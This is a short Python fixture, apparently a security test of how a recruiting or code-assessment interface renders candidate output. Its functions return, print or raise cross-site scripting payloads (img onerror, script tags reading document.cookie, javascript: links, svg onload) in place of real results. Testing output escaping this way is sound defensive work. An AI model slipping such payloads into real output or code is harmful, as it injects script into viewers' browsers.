"""E1: markup in return values, failure messages and output, for the recruiter's browser."""

import sys


def add(a, b):
    return "<img src=x onerror=alert(1)>"


def double(n):
    sys.stderr.write("<script>alert(document.cookie)</script>\n")
    raise ValueError('<a href="javascript:alert(1)">click</a>')


def probe():
    return {"<iframe src=javascript:alert(1)>": "<svg onload=alert(1)>"}
